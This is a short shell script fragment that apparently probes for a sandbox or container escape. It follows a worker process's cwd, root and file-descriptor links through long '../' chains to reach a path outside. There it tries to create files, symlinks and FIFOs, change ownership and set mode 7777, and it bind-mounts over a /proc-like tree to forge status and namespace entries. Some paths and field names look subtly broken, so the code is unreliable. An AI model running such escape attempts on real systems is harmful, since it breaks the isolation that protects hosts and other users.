# shellcheck shell=sh
# `worker` is the directory of the worker of $OF; `tried DIRECTORY` goes through the links there.
cd /work; for process in /hpm/[0-9]*; do
    ! grep -q "^subuidless: ${OF}" $process/cmdline 2>/dev/null || worker=$process
done
tried() {
    ls $1/status >/dev/null
    for link in cwd root fd/3 fd/4 fd/5 fd/6 fd/7 fd/8 fd/9 fd/10 fd/11 fd/12; do
        way=$1/$link/../../../../../../../..$outside
        for attempt in "touch $way/made" "mkdir $way/directory" "ln -s x $way/link" \
            "mkfifo $way/fifo" "chown 7:7 $way" "chmod 7777 $way"; do
            $attempt 2>/dev/null ||:
        done
        ln -sf $way/through /tmp/through; touch /tmp/through 2>/dev/null ||:
    done
}
forge() {
    mount --bind $worker /hpm/1
    cat /proc/self/status >/tmp/status; mount --bind /tmp/status /hpm/1/status
    mount --bind /proc/self/ns /hpm/1/ns
    tried /hpm/1
}
